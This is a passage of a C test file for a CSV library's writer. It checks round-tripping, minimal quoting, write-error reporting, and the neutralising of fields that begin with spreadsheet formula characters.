		for (crlf = 0; crlf <= 1; crlf++) {
			if ((fp = fopen(path, "wb")) == NULL) {
				perror(path);
				exit(2);
			}
			o = csv_out_new(fp, neut, crlf);
			for (i = 0; i < 4; i++)
				csv_out_row(o, rows[i], 6);
			csv_out_row(o, lone, 1);
			CHECK_INT(csv_out_free(o), KITH_OK);
			fclose(fp);

			CHECK_INT(read_path(path, NULL, &g, NULL, &err),
			    KITH_OK);
			CHECK_INT(g.count, 5);
			for (i = 0; i < 4 && i < g.count; i++) {
				CHECK_INT(g.r[i].n, 6);
				for (j = 0; j < 6 && j < g.r[i].n; j++) {
					want = rows[i][j] != NULL ?
					    rows[i][j] : "";
					if (neut && csv_needs_neutralising(
					    want)) {
						CHECK(g.r[i].f[j][0] == '\'');
						CHECK_STR(g.r[i].f[j] + 1,
						    want);
					} else
						CHECK_STR(g.r[i].f[j], want);
				}
			}
			CHECK(g.count == 5 && g.r[4].n == 1 &&
			    g.r[4].len[0] == 0);
			got_free(&g);
		}
	free(path);

	/* Minimal quoting: nothing that does not need it. */
	if ((fp = tmpfile()) != NULL) {
		static const char	*r2[] = { "a", "b c", NULL, "=x" };
		char			 line[64];

		o = csv_out_new(fp, 1, 0);
		csv_out_row(o, r2, 4);
		CHECK_INT(csv_out_free(o), KITH_OK);
		rewind(fp);
		CHECK(fgets(line, sizeof line, fp) != NULL);
		CHECK_STR(line, "a,b c,,\"'=x\"\n");
		fclose(fp);
	}

	/* Write errors surface in csv_out_free. */
	if ((fp = fopen("/dev/full", "w")) != NULL) {
		o = csv_out_new(fp, 0, 0);
		for (i = 0; i < 1000; i++)
			csv_out_row(o, rows[0], 6);
		CHECK_INT(csv_out_free(o), KITH_IO);
		fclose(fp);
	}
	CHECK_INT(csv_out_free(NULL), KITH_OK);

	CHECK(csv_needs_neutralising("=1"));
	CHECK(csv_needs_neutralising("+1 555"));
	CHECK(csv_needs_neutralising("-x"));
	CHECK(csv_needs_neutralising("@x"));
	CHECK(csv_needs_neutralising("\tx"));
	CHECK(csv_needs_neutralising("\rx"));
	CHECK(!csv_needs_neutralising(""));
	CHECK(!csv_needs_neutralising(NULL));
	CHECK(!csv_needs_neutralising("a=1"));
	CHECK(!csv_needs_neutralising(" =1"));
}

TEST_MAIN(test_google, test_outlook, test_linkedin, test_duplicates,
    test_cr_only, test_invalid_utf8, test_nul_byte, test_huge_field,
    test_ragged_rows, test_structural, test_refused, test_header_only,
    test_formula_injection, test_utf16, test_legacy, test_prescan_split,
    test_semicolon_bom, test_lines_and_blanks, test_huge_crlf,
    test_max_field_and_stop, test_writer)
